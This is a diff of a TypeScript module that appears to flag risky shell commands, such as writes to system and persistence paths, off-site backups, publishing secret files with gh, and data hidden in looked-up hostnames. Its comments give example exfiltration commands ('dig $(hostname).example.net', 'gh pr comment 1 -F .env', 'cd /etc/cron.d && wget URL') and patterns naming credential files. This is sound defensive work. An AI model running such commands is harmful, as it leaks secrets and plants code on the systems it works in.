@@ -6,6 +6,7 @@ import {
   fragmentOf,
   isDisk,
   isNowhere,
+  isSecretName,
   isSystemPath,
   sentOutside,
   type Span,
@@ -15,7 +16,7 @@ import { isOutside } from './http.ts';
 import type { Lexicon } from '../lexicon/types.ts';
 import type { CommandLine } from './shell-code.ts';
 import type { ShellCommand } from './shell-syntax.ts';
-import { textsOf } from './shell-words.ts';
+import { type ShellWord, textsOf } from './shell-words.ts';
 
 /** Whether a command writes nothing, so that its output empties a file: `:`, `cat /dev/null`, `echo -n`. */
 export function writesNothing(words: readonly string[]): boolean {
@@ -31,7 +32,7 @@ const GRANTS =
   /^\/etc\/(?:passwd|shadow|gshadow|group|sudoers|doas\.conf|pam\.d|ssh|security|polkit-1)\b|(?:^|\/)authorized_keys2?$|\/\.rhosts$/;
 /** Files whose lines are run sooner or later, or which steer the kernel. */
 const IS_RUN_LATER =
-  /^\/etc\/(?:cron|profile|rc\.|init\.d|systemd|ld\.so|environment|bash|zsh)|^\/(?:var\/spool\/cron|proc|sys)\/|\/\.(?:bash|zsh|profile\b|config\/(?:systemd|autostart))|\/\.git\/hooks\/|\/\.ssh\/(?:config|rc)$/;
+  /^\/etc\/(?:cron|profile|rc\.|init\.d|systemd|ld\.so|environment|bash|zsh)|^\/(?:var\/spool\/cron|proc|sys)\/|\/\.(?:bash|zsh|profile\b|config\/(?:systemd|autostart))|(?:^|\/)\.git\/hooks(?:\/|$)|\/\.ssh(?:\/(?:config|rc)?)?$|^\/(?:usr\/)?(?:local\/)?s?bin(?:\/|$)|\/\.?(?:local|cargo|go|npm)\/bin(?:\/|$)/;
 /** Media that somebody can carry away. */
 const REMOVABLE = /^\/(?:media|Volumes|run\/media|mnt\/usb)\/|^\\\\[\w.-]+\\/;
 /** A path within a container or on another machine. */
@@ -64,14 +65,38 @@ export function writtenPlace(path: string, span: Span, lexicon: Lexicon): Fragme
   return isDisk(path) ? [fileWrite(path, span)] : [];
 }
 
+/** Options for the folder into which something is copied or unpacked. */
+const INTO = /^(?:-C|-d|-P|-t|--directory(?:-prefix)?|--target-directory|--one-top-level)(?:=(.*))?$/s;
+
+/** What goes into a folder of which nobody sees what is replaced there: all of the system, its files, or files that are run later. */
+function unpacked({ known: { entry }, texts, span, lexicon }: CommandLine): Fragment[] {
+  if (entry.domain !== 'files') return [];
+  const folders = texts.flatMap((text, at) => {
+    const option = INTO.exec(text);
+    return option === null ? [] : (option[1] ?? texts[at + 1] ?? '');
+  });
+  const isGrave = (folder: string) =>
+    folder === '/' || isSystemPath(folder) || writtenPlace(`${folder}/`, span, lexicon).length > 0;
+  return folders.some(isGrave) ? [unknownCode(span)] : [];
+}
+
 /** The files that a command which changes files is given: the last one for a copy. */
-export function givenPlaces({ known: { entry, doing, arguments: args }, span, lexicon }: CommandLine): Fragment[] {
+export function givenPlaces(line: CommandLine): Fragment[] {
+  const { known, span, lexicon } = line;
+  const { entry, doing, arguments: args } = known;
   if (doing.effect === 'read') return [];
+  if (entry.command === 'git clone') return args.slice(-1).flatMap((path) => writtenPlace(path, span, lexicon));
   if (entry.domain !== 'files')
     return args.slice(-1).flatMap((path) => (REMOVABLE.test(path) ? writtenPlace(path, span, lexicon) : []));
   const isCopy = entry.sends || entry.command === 'ln';
   const paths = isCopy ? args.slice(-1) : args.map((arg) => arg.replace(/^of=/, ''));
-  return paths.flatMap((path) => writtenPlace(path, span, lexicon));
+  return [...paths.flatMap((path) => writtenPlace(path, span, lexicon)), ...unpacked(line)];
+}
+
+/** What a command writes in the folder that code has gone to before: `cd /etc/cron.d && wget URL`. */
+export function writtenIn(folder: string, fragments: readonly Fragment[], span: Span, lexicon: Lexicon): Fragment[] {
+  if (fragments.every(({ effect }) => effect === 'read')) return [];
+  return writtenPlace(`${folder.replace(/\/$/, '')}/x`, span, lexicon);
 }
 
 export function writtenFiles({ redirections, words }: ShellCommand, lexicon: Lexicon): Fragment[] {
@@ -86,6 +111,37 @@ export function writtenFiles({ redirections, words }: ShellCommand, lexicon: Lex
     const span = { at: target.at, end: target.end };
     return [fileWrite(target.text, span, isEmptied), ...writtenPlace(target.text, span, lexicon)];
   });
+}
+
+/** A repository of backups on another host: `s3:x.example/b`, `sftp:eva@x.example:/b`, `x.example:b::archive`. */
+const REPOSITORY =
+  /^(?:(?:s3|sftp|rest|b2|swift|ssh):)?(?:(?:https?|ssh):\/\/)?(?:[\w.-]{1,64}@)?((?:[\w-]{1,63}\.){1,8}[a-z]{2,24})(?::|\/|$)/i;
+
+/** A backup that is kept outside: `restic -r s3:x.example/b backup /srv`. */
+export function backedUpOutside({ known: { entry, doing }, texts, span, lexicon }: CommandLine): Fragment[] {
+  if (!/^(?:restic|borg)/.test(entry.command) || doing.effect === 'read') return [];
+  const isAway = texts.some((text) => {
+    const host = REPOSITORY.exec(text.slice(0, 500).replace(/^--repo=/, ''))?.[1];
+    return host !== undefined && /[:@]/.test(text) && isOutside(`ssh://${host}`, lexicon);
+  });
+  const sent = fragmentOf(span, { verb: 'back up', action: 'send', effect: 'write', object: 'file', domain: 'files' });
+  return isAway ? [sentOutside(sent, '', true)] : [];
+}
+
+const BODY_FILE = /^(?:-F|--body-file|--notes-file)(?:=(.*))?$/s;
+/** Files that somebody wrote to be published there, or the output of another command, which is read by itself. */
+const WRITTEN_TEXT = /\.(?:md|markdown|txt|rst)$|^-$/i;
+
+/** A file that becomes a text which others read: `gh pr comment 1 -F .env`. */
+export function fileOfBody({ known: { entry }, texts, span }: CommandLine): Fragment[] {
+  if (!/^gh\b/.test(entry.command)) return [];
+  const files = texts.flatMap((text, at) => {
+    const option = BODY_FILE.exec(text);
+    return option === null ? [] : (option[1] ?? texts[at + 1] ?? '');
+  });
+  const hidden = files.filter((file) => !WRITTEN_TEXT.test(file) || isSecretName(file));
+  const sent = fragmentOf(span, { verb: 'send', action: 'send', effect: 'write', object: 'file', domain: 'files' });
+  return hidden.length > 0 ? [sentOutside(sent, hidden.join(' '), true)] : [];
 }
 
 const REMOTE =
@@ -109,11 +165,26 @@ export function fedTo({ known, command, before, lexicon }: CommandLine, own: Fra
   return [sentOutside({ ...fragment, object: 'file', domain: 'files' }, '', true)];
 }
 
+/** The host of an address without a scheme: `eva@x.example:5000/img`. */
+const HOST = /^(?:[\w.+-]{1,64}@)?((?:[\w-]{1,63}\.){1,8}[a-z]{2,24})(?::\d{1,5})?(?:$|[/?#])/i;
+
 const HOST_OF_DATA = /[)`}\w]\.(?:[a-z0-9-]{1,63}\.){0,6}[a-z]{2,24}\.?$/i;
 
-/** Data in the name of a host that is asked for: `dig $(hostname).example.net`. */
-export const asksWithData = ({ known: { entry }, words }: CommandLine): boolean =>
-  entry.asks && words.some(({ text, isDynamic }) => isDynamic && HOST_OF_DATA.test(text.slice(-200)));
+/** Whether a word is an address outside of the organisation; of a command that asks hosts, also one without a scheme. */
+function leadsOutside(text: string, { known: { entry }, lexicon }: CommandLine): boolean {
+  const place = text.slice(0, 500).replace(/^--?[\w-]{1,40}=/, '');
+  const host = entry.asks ? HOST.exec(place)?.[1] : undefined;
+  if (host !== undefined && isOutside(`ssh://${host}`, lexicon)) return true;
+  return place.includes('://') && isOutside(place, lexicon);
+}
+
+/** Data that goes to a host in its name, or beside it: `dig $(hostname).example.net`, `git ls-remote https://x.example/$(cat f)`. */
+export const asksWithData = (line: CommandLine): boolean => {
+  const { known, words } = line;
+  const isInHost = ({ text, isDynamic }: ShellWord) => isDynamic && HOST_OF_DATA.test(text.slice(-200));
+  if (known.entry.asks && words.some(isInHost)) return true;
+  return words.some(({ holdsData }) => holdsData) && words.some(({ text }, at) => at > 0 && leadsOutside(text, line));
+};
 
 /** Whether all addresses that a command sends to are within the organisation: `mail ops@localhost`. */
 export function staysInside({ known, lexicon }: CommandLine): boolean {
